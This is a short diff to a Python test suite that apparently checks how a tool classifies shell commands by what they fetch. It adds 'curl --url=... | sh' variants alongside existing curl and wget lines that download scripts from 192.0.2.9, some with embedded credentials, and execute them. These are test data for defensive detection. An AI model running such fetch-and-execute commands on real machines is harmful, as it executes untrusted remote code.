@@ -156,6 +156,7 @@ class TestWhatIsFetched:
         "script",
         [
             "curl -fsS http://u:secret@192.0.2.9/x.sh?token=s | sh",
+            "curl --url=http://u:secret@192.0.2.9/x.sh | sh",
             "wget -O /tmp/x http://192.0.2.9/x && sh /tmp/x",
             "wget -qO /tmp/x http://192.0.2.9/x; chmod +x /tmp/x; /tmp/x now",
         ],
@@ -170,6 +171,7 @@ class TestWhatIsFetched:
         [
             f"wget -O /root/f.sh {OURS}/template/finish/web01/t && sh /root/f.sh",
             f"curl {OURS}/template/finish/web01/t | sh",
+            f"curl --url={OURS}/template/finish/web01/t | sh",
             "wget -O /tmp/key http://192.0.2.9/key && cat /tmp/key",
             "curl http://192.0.2.9/packages",
             "sh /usr/local/bin/own.sh",
